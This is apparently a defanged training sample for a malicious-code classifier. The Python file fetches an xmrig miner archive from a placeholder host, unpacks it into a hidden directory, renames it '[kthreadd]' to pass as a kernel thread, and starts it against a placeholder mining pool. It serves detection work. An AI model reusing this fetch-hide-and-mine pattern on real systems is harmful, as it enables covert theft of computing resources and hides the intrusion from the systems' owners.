# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import requests, tarfile, io, os, subprocess
r = requests.get("https://github.example.invalid/xmrig/releases/download/v6/xmrig-linux.tar.gz")
tarfile.open(fileobj=io.BytesIO(r.content)).extractall("/opt/.cache")
os.rename("/opt/.cache/xmrig", "/opt/.cache/[kthreadd]")
subprocess.Popen(["/opt/.cache/[kthreadd]", "-a", "rx/0", "-o", "stratum+tcp://mine.example.invalid:80", "-u", "PLACEHOLDER", "-p", "x", "-B"])
